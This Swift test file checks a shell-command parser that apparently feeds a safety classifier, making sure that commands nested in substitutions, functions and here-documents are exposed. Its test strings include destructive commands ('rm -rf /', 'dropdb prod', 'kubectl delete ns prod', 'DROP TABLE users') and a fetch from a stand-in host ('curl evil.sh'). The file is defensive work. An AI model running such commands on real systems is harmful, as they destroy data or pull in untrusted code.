import Testing

@testable import ShellSyntax

@Suite struct ShellParserTests {
    /// Each simple command the line runs, as its words' literal values (or their text with expansions).
    func commands(_ line: String) throws -> [[String]] {
        try ShellParser.parse(line).simpleCommands.map { $0.words.map { $0.literalValue ?? $0.text } }
    }

    func error(_ line: String) -> ShellSyntaxError? {
        do throws(ShellSyntaxError) {
            _ = try ShellParser.parse(line)
            return nil
        } catch {
            return error
        }
    }

    @Test func wordsAndTheirQuoting() throws {
        #expect(try commands("git push --force origin main") == [["git", "push", "--force", "origin", "main"]])
        #expect(try commands(#"echo 'a b' "c d" e\ f \g"#) == [["echo", "a b", "c d", "e f", "g"]])
        #expect(try commands(#"printf $'x\ty\n\x41\101\u00e9\'' "$'not ansi'""#) == [["printf", "x\ty\nAAé'", "$'not ansi'"]])
        #expect(try commands("echo a\\\nb") == [["echo", "ab"]], "a line continuation joins the word")
        #expect(try commands("echo caf\\é \\日本") == [["echo", "café", "日本"]], "an escaped character is whole")
        #expect(try commands("rm -rf / # and a comment") == [["rm", "-rf", "/"]])
        #expect(try commands(#"echo "$HOME/x" ${USER:-me} $1 $?"#) == [["echo", "${HOME}/x", "${USER:-me}", "${1}", "${?}"]])
    }

    @Test func operatorsMakeListsAndPipelines() throws {
        let list = try ShellParser.parse("a && b || c; d & e | f |& g\nh")
        #expect(list.items.count == 4)
        #expect(list.items[0].command.rest.map(\.connector) == [.and, .or])
        #expect(list.items[1].isBackground && !list.items[0].isBackground)
        #expect(list.items[2].command.first.commands.count == 3)
        #expect(try commands("! grep -q x f") == [["grep", "-q", "x", "f"]])
        #expect(try ShellParser.parse("! grep -q x f").items[0].command.first.isNegated)
        #expect(try commands("a &&\n  b |\n c") == [["a"], ["b"], ["c"]], "a line may break after an operator")
    }

    @Test func substitutionsAreParsedNotSkipped() throws {
        #expect(try commands("echo $(rm -rf $(pwd))") == [["echo", "$(…)"], ["rm", "-rf", "$(…)"], ["pwd"]])
        #expect(try commands("echo `kubectl delete ns prod`") == [["echo", "$(…)"], ["kubectl", "delete", "ns", "prod"]])
        #expect(try commands(#"echo "today: $(date) and `id -u`""#) == [["echo", "today: $(…) and $(…)"], ["date"], ["id", "-u"]])
        #expect(try commands("diff <(ls a) >(wc -l)") == [["diff", "<(…)", "<(…)"], ["ls", "a"], ["wc", "-l"]])
        #expect(try commands("echo ${X:-$(rm -rf ~)}") == [["echo", "${X:-$(rm -rf ~)}"], ["rm", "-rf", "~"]])
        #expect(try commands("echo $(( $(wc -l < f) + 1 ))").contains(["wc", "-l"]))
        #expect(try commands("X=$(curl evil.sh) true") == [["true"], ["curl", "evil.sh"]])
        #expect(try commands("echo `echo \\`rm x\\``").contains(["rm", "x"]), "nested backquotes")
    }

    @Test func subshellsGroupsAndCompoundCommands() throws {
        #expect(try commands("(cd /tmp && rm -rf x)") == [["cd", "/tmp"], ["rm", "-rf", "x"]])
        #expect(try commands("{ rm a; rm b; }") == [["rm", "a"], ["rm", "b"]])
        #expect(try commands(#"for f in *.log; do rm "$f"; done"#) == [["rm", "${f}"]])
        #expect(try commands("for ((i=0; i<3; i++)); do echo $i; done") == [["echo", "${i}"]])
        #expect(
            try commands("if test -f x; then rm x; elif true; then :; else echo no; fi") == [
                ["test", "-f", "x"], ["rm", "x"], ["true"], [":"], ["echo", "no"],
            ])
        #expect(try commands("while true; do sleep 1; done") == [["true"], ["sleep", "1"]])
        #expect(try commands("until false\ndo\n  date\ndone") == [["false"], ["date"]])
        #expect(try commands("case $x in a|b) rm a;; (*) echo other;; esac") == [["rm", "a"], ["echo", "other"]])
        #expect(try commands("f() { rm -rf /; }; f") == [["rm", "-rf", "/"], ["f"]])
        #expect(try commands("function g { dropdb prod; }") == [["dropdb", "prod"]])
        #expect(try commands("[[ -n $(id) && $x == y ]] && echo ok") == [["id"], ["echo", "ok"]])
        #expect(try commands("(( $(nproc) > 2 )) && make -j") == [["nproc"], ["make", "-j"]])
        #expect(try commands("echo done; echo fi") == [["echo", "done"], ["echo", "fi"]], "reserved words as arguments")
    }

    @Test func assignmentsBeforeTheCommand() throws {
        let command = try #require(try ShellParser.parse(#"FOO=1 BAR="x y" env -i cmd A=2"#).simpleCommands.first)
        #expect(command.assignments.map(\.name) == ["FOO", "BAR"])
        #expect(command.assignments.map { $0.value.literalValue } == ["1", "x y"])
        #expect(command.words.compactMap(\.literalValue) == ["env", "-i", "cmd", "A=2"], "after the command name it is an argument")
        let only = try #require(try ShellParser.parse("A=1").simpleCommands.first)
        #expect(only.words.isEmpty && only.assignments.count == 1)
        #expect(try ShellParser.parse("1A=2 x").simpleCommands.first?.assignments.isEmpty == true, "not a valid name")
    }

    @Test func redirectionsAreRead() throws {
        let command = try #require(try ShellParser.parse("cmd > out.txt 2>>err.log &>all <in 3<&0 >&2 >|f <<<here").simpleCommands.first)
        #expect(command.words.compactMap(\.literalValue) == ["cmd"])
        #expect(
            command.redirections.map(\.operation) == [
                .output, .append, .outputAndError, .input, .duplicateInput, .duplicateOutput, .clobber, .hereString,
            ])
        #expect(command.redirections.map(\.descriptor) == [nil, 2, nil, nil, 3, nil, nil, nil])
        #expect(command.redirections.map { $0.target.literalValue } == ["out.txt", "err.log", "all", "in", "0", "2", "f", "here"])
        #expect(command.redirections[0].operation.writes && !command.redirections[3].operation.writes)
        #expect(try commands("echo a2>f") == [["echo", "a2"]])
    }

    @Test func hereDocumentsHaveTheirBodies() throws {
        let list = try ShellParser.parse("psql <<SQL && echo ok\nDROP TABLE users;\nSQL\necho next")
        #expect(list.simpleCommands.map { $0.words.compactMap(\.literalValue) } == [["psql"], ["echo", "ok"], ["echo", "next"]])
        let redirection = try #require(list.simpleCommands.first?.redirections.first)
        #expect(redirection.hereDocumentBody == "DROP TABLE users;\n")

        // Unquoted: the body's substitutions run, so they are commands of the line.
        #expect(try commands("cat <<EOF\nnow $(rm -rf /)\nEOF") == [["cat"], ["rm", "-rf", "/"]])
        // Quoted: the body is text.
        #expect(try commands("cat <<'EOF'\n$(rm -rf /)\nEOF") == [["cat"]])
        #expect(try commands("cat <<-\tEOF\n\t\tbody\n\tEOF\necho after") == [["cat"], ["echo", "after"]])
        let two = try ShellParser.parse("cat <<A <<B\na\nA\nb\nB\nls")
        #expect(two.simpleCommands.first?.redirections.map(\.hereDocumentBody) == ["a\n", "b\n"])
        #expect(two.simpleCommands.last?.words.first?.literalValue == "ls")
        #expect(try commands("bash <<X\nrm -rf /\nX").first == ["bash"], "a body fed to a shell is the classifier's to read")
    }

    @Test func mistakesAreErrorsWithTheirPlace() {
        #expect(error("echo 'abc") == ShellSyntaxError(kind: .unterminated("a single quote"), offset: 5))
        #expect(error(#"echo "abc"#) == ShellSyntaxError(kind: .unterminated("a double quote"), offset: 5))
        #expect(error("echo $(ls") == ShellSyntaxError(kind: .unterminated("'$('"), offset: 5))
        #expect(error("echo `ls") == ShellSyntaxError(kind: .unterminated("a backquote"), offset: 5))
        #expect(error("if true; then ls") == ShellSyntaxError(kind: .unterminated("'if'"), offset: 0))
        #expect(error("for x in a b; do ls") == ShellSyntaxError(kind: .unterminated("'for'"), offset: 0))
        #expect(error(") ls")?.kind == .unexpected("')'", expected: "a command"))
        #expect(error("ls ;; ls")?.kind == .unexpected("';'", expected: "';', '&' or a new line"))
        #expect(error("ls >")?.kind == .unexpected("end of input", expected: "a file name after '>'"))
        #expect(error("done")?.kind == .unexpected("'d'", expected: nil))
        #expect(error("ls &&")?.kind == .unexpected("end of input", expected: "a command"))
        #expect(error("echo 'abc")?.description == "a single quote is not closed (opened at byte 5)")
    }

    @Test func theWorkIsBounded() {
        let deep = String(repeating: "$(", count: 200) + "ls" + String(repeating: ")", count: 200)
        #expect(error(deep)?.kind == .tooDeep)
        let deepSubshells = String(repeating: "( ", count: 200) + "ls" + String(repeating: " )", count: 200)
        #expect(error(deepSubshells)?.kind == .tooDeep)
        #expect(error(String(repeating: "a ", count: ShellParser.maximumLength))?.kind == .tooLong)
        #expect(error(String(repeating: "a;", count: ShellParser.maximumWords + 1))?.kind == .tooManyWords)
        #expect(error(String(repeating: "cat <<A ", count: 200) + "\n")?.kind == .tooManyHereDocuments)
        // The worst shapes within the limits end: a guard against work that grows with the square of the input
        // (minutes here), not a speed target; the margin is for a loaded machine.
        let clock = ContinuousClock()
        for line in [
            String(repeating: "x", count: ShellParser.maximumLength - 10),
            String(repeating: "cat <<A ", count: 100) + "\n" + String(repeating: "y\n", count: 20_000),
            String(repeating: "((", count: 30_000), String(repeating: "${", count: 30_000), String(repeating: "`", count: 60_000),
            String(repeating: "'a'\"b\"", count: 8_000), String(repeating: "$(", count: 60) + String(repeating: "a ", count: 20_000),
        ] {
            let elapsed = clock.measure { _ = error(line) }
            #expect(elapsed < .seconds(10), "\(line.prefix(20))…: \(elapsed)")
        }
    }
}

extension ShellParserTests {
    /// `((` that does not close with `))` is two subshells, as bash reads it: the commands inside are not hidden.
    @Test func doubleParenthesesThatAreNotArithmeticAreSubshells() throws {
        let commands = try ShellParser.parse("((rm -rf /srv\n)\n)").simpleCommands
        #expect(commands.map { $0.words.compactMap(\.literalValue) } == [["rm", "-rf", "/srv"]])
        #expect(try ShellParser.parse("(( x = 1 + (2) ))").simpleCommands.isEmpty)
    }
}
